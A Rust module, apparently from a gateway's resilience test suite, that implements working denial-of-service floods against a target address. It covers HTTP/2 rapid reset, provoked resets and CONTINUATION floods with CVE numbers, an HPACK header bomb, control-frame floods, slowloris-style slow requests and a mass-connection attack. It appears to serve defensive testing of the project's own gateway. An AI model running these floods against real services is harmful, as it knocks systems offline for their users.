//! The attacks: what each says first on a connection, and what it goes on saying.

use std::{
    net::{IpAddr, Ipv4Addr, SocketAddr},
    time::Duration,
};

use logicore_harness::{connect_from, h2_call, h2_frame as frame, h2_literal, h2_preface};
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
    task::JoinSet,
    time::{Instant, sleep, timeout_at},
};

/// A method that anybody may call, so that what comes for it is worked for.
const LOGIN: &str = "/logicore.auth.v1.AuthService/Login";

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// An attack.
pub(super) struct Attack {
    pub(super) name: &'static str,
    /// Connections at once.
    connections: usize,
    /// Whether the gateway ends its connections before the attacker does.
    pub(super) is_cut: bool,
    /// Whether the attacker reads what it is answered.
    reads: bool,
    /// Between two bursts.
    pause: Duration,
    opening: fn() -> Vec<u8>,
    /// The burst of this number, on a connection that is open.
    burst: fn(u32) -> Vec<u8>,
}

/// What an attack came to.
#[derive(Debug, Default)]
pub(super) struct Cost {
    pub(super) connections: usize,
    /// Of these, the ones that the gateway ended.
    pub(super) cut: usize,
}

const NO_PAUSE: Duration = Duration::ZERO;
const SLOWLY: Duration = Duration::from_millis(100);

/// Frames without an end.
const fn flood(name: &'static str, opening: fn() -> Vec<u8>, burst: fn(u32) -> Vec<u8>) -> Attack {
    Attack {
        name,
        connections: 8,
        is_cut: true,
        reads: true,
        pause: NO_PAUSE,
        opening,
        burst,
    }
}

/// Little at a time, over many connections.
const fn slow(name: &'static str, opening: fn() -> Vec<u8>, burst: fn(u32) -> Vec<u8>) -> Attack {
    Attack {
        name,
        connections: 100,
        is_cut: false,
        reads: false,
        pause: SLOWLY,
        opening,
        burst,
    }
}

pub(super) const ALL: &[Attack] = &[
    flood("rapid reset (CVE-2023-44487)", h2_preface, |n| {
        streams(n, |bytes, stream| {
            frame(bytes, HEADERS, END_HEADERS, stream, &h2_call(LOGIN));
            frame(bytes, RST_STREAM, 0, stream, &[0, 0, 0, 8]);
        })
    }),
    flood("provoked resets (CVE-2025-8671)", h2_preface, |n| {
        streams(n, |bytes, stream| {
            frame(bytes, HEADERS, END_HEADERS, stream, &h2_call(LOGIN));
            // An increment of 0 is an error of the stream.
            frame(bytes, WINDOW_UPDATE, 0, stream, &[0; 4]);
        })
    }),
    flood("CONTINUATION (CVE-2024-27316)", unfinished_head, |_| {
        repeated(CONTINUATION, 0, 1, &h2_literal("x-header", &"x".repeat(100)))
    }),
    flood("empty CONTINUATION", unfinished_head, |_| {
        repeated(CONTINUATION, 0, 1, &[])
    }),
    flood("SETTINGS", h2_preface, |_| {
        repeated(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100])
    }),
    flood("PING", h2_preface, |_| repeated(PING, 0, 0, b"opaque 8")),
    flood("empty DATA", open_call, |_| repeated(DATA, 0, 1, &[])),
    flood("DATA of one byte", open_call, |_| repeated(DATA, 0, 1, &[0])),
    flood("PRIORITY", h2_preface, |_| repeated(PRIORITY, 0, 1, &[0, 0, 0, 3, 16])),
    flood("WINDOW_UPDATE", open_call, |_| {
        repeated(WINDOW_UPDATE, 0, 1, &[0, 0, 0, 1])
    }),
    flood("frames nobody knows", h2_preface, |_| repeated(0xbe, 0, 0, &[])),
    flood("header bomb (HPACK)", h2_preface, |n| {
        streams(n, |bytes, stream| {
            let mut head = h2_call(LOGIN);
            // Into the table once (RFC 7541, 6.2.1), and then one byte for each time that it is meant.
            head.extend([0x40, 1, b'x', 126]);
            head.extend([b'x'; 126]);
            head.extend([0xbe].repeat(4000));
            frame(bytes, HEADERS, END_HEADERS | END_STREAM, stream, &head);
        })
    }),
    flood("many small headers", h2_preface, |n| {
        streams(n, |bytes, stream| {
            let mut head = h2_call(LOGIN);
            head.extend(h2_literal("a", "").repeat(900));
            frame(bytes, HEADERS, END_HEADERS | END_STREAM, stream, &head);
        })
    }),
    slow("no room for answers", no_window, |n| match n {
        0 => some_streams(3, 0, |bytes, stream| {
            let mut head = vec![0x82, 0x86];
            head.extend(h2_literal(":path", "/openapi.json"));
            head.extend(h2_literal(":authority", "localhost"));
            frame(bytes, HEADERS, END_HEADERS | END_STREAM, stream, &head);
        }),
        _ => Vec::new(),
    }),
    slow(
        "slow headers",
        || b"GET /health HTTP/1.1\r\nhost: localhost\r\n".to_vec(),
        |_| b"x".to_vec(),
    ),
    slow(
        "slow body",
        || {
            b"POST /auth/login HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n\
              content-length: 10000\r\n\r\n"
                .to_vec()
        },
        |_| b" ".to_vec(),
    ),
    slow(
        "slow reading",
        || b"GET /openapi.json HTTP/1.1\r\nhost: localhost\r\n\r\n".repeat(10),
        |_| Vec::new(),
    ),
    Attack {
        name: "many connections",
        connections: 600,
        is_cut: true,
        reads: true,
        pause: SLOWLY,
        opening: h2_preface,
        burst: |_| Vec::new(),
    },
];

impl Attack {
    /// Where it comes from: not from the caller's address, whose limits it would share, and from no other attack's, since the gateway
    /// remembers who flooded.
    fn source(&self) -> IpAddr {
        let number = ALL.iter().position(|attack| attack.name == self.name);
        let number = number.and_then(|n| u8::try_from(n + 1).ok()).unwrap_or_default();
        Ipv4Addr::new(127, 0, 1, number).into()
    }

    /// Attacks for a while. Who is cut off comes again.
    pub(super) async fn run(&self, address: SocketAddr, during: Duration) -> Cost {
        let (end, source) = (Instant::now() + during, self.source());
        let mut attackers = JoinSet::new();
        for _ in 0..self.connections {
            let (reads, pause, opening, burst) = (self.reads, self.pause, self.opening, self.burst);
            attackers.spawn(async move {
                let mut cost = Cost::default();
                while Instant::now() < end {
                    let Ok(stream) = connect_from(source, address).await else {
                        sleep(SLOWLY).await;
                        continue;
                    };
                    cost.connections += 1;
                    let talk = talk(stream, reads, pause, opening(), burst);
                    cost.cut += usize::from(timeout_at(end, talk).await.is_ok());
                    // A fleet of attackers, and not one loop that measures how fast this machine connects.
                    sleep(Duration::from_millis(10)).await;
                }
                cost
            });
        }
        let costs = attackers.join_all().await;
        costs.iter().fold(Cost::default(), |sum, one| Cost {
            connections: sum.connections + one.connections,
            cut: sum.cut + one.cut,
        })
    }
}

/// Says what it has to say until the gateway has enough.
async fn talk(mut stream: TcpStream, reads: bool, pause: Duration, opening: Vec<u8>, burst: fn(u32) -> Vec<u8>) {
    let (mut reader, mut writer) = stream.split();
    let says = async {
        writer.write_all(&opening).await?;
        for n in 0.. {
            writer.write_all(&burst(n)).await?;
            sleep(pause).await;
        }
        std::io::Result::Ok(())
    };
    let hears = async {
        let mut answer = [0; 64 << 10];
        while reads && reader.read(&mut answer).await.is_ok_and(|n| n > 0) {}
        if !reads {
            std::future::pending::<()>().await;
        }
    };
    tokio::select! {
        _ = says => {}
        () = hears => {}
    }
}

fn streams(burst: u32, each: impl Fn(&mut Vec<u8>, u32)) -> Vec<u8> {
    some_streams(100, burst, each)
}

fn some_streams(many: u32, burst: u32, each: impl Fn(&mut Vec<u8>, u32)) -> Vec<u8> {
    let mut bytes = Vec::new();
    for n in 0..many {
        each(&mut bytes, (burst * many + n) * 2 + 1);
    }
    bytes
}

fn repeated(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut one = Vec::new();
    frame(&mut one, kind, flags, stream, payload);
    one.repeat(1000)
}

fn unfinished_head() -> Vec<u8> {
    let mut bytes = h2_preface();
    frame(&mut bytes, HEADERS, 0, 1, &h2_call(LOGIN));
    bytes
}

fn open_call() -> Vec<u8> {
    let mut bytes = h2_preface();
    frame(&mut bytes, HEADERS, END_HEADERS, 1, &h2_call(LOGIN));
    bytes
}

fn no_window() -> Vec<u8> {
    let mut bytes = h2_preface();
    frame(&mut bytes, SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]);
    bytes
}
